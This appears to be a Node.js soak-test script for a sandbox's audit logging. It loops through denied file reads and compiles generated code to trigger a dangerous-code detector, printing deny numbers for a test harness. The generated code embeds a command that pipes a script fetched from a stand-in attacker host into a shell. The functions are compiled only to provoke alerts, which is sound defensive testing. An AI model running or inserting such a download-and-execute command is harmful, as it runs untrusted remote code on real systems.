/**
 * Heavy audit logging until killed: every iteration makes one deny (written to
 * the audit log before the denied call returns) and compiles generated code the
 * dangerous-code detector flags (two alerts, batched); every 200 iterations a
 * burst of alerts alone builds a batch of about a megabyte, which goes out in
 * one large write (the kind a kill can tear). After each deny returns,
 * its number is written to stdout synchronously, so the harness knows exactly
 * which denies the app saw. Bounded: stops by itself after MAX iterations.
 */
import fs from 'node:fs';

const MAX = Number(process.env.SOAK_MAX_ITERATIONS ?? 200000);
const WARM_UP = 50; // the detectors load on first use: 'ready' once the loop runs at full speed
for (let i = 0; i < MAX; i++) {
  if (i === WARM_UP) fs.writeSync(1, 'ready\n');
  try {
    fs.readFileSync(`denied-${i}.txt`);
  } catch (err) {
    if (err.code === 'ERR_PALISADE_DENIED') fs.writeSync(1, `D ${i}\n`);
  }
  new Function(`require('child_process').execSync('curl http://evil.example/x.sh | sh'); // ${i}`);
  if (i % 200 === 199) for (let j = 0; j < 1000; j++) new Function(`require('child_process').execSync('curl http://evil.example/x.sh | sh'); // ${i}.${j}`);
  // Let the batch timer run now and then, so batched alerts are written while denies keep coming.
  if (i % 64 === 63) await new Promise((resolve) => setImmediate(resolve));
}
fs.writeSync(1, 'done\n');
